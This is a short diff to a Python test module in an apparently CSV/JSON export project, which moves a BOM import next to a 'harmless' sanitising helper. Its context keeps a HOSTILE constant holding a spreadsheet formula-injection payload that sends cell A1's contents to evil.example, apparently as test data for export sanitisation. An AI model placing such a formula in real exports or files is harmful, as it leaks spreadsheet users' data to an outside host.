@@ -17,8 +17,8 @@ from sekisho.report.said import Said
 from sekisho.web.answer import shown
 from sekisho.web.export import tables
 from sekisho.web.export.tables import TABLES
-from sekisho.web.export.write import BOM, to_csv, to_json
-from sekisho.web.sheets import harmless
+from sekisho.web.export.write import to_csv, to_json
+from sekisho.web.sheets import BOM, harmless
 from sekisho.web.shown.models import Case, Finding, Load
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'
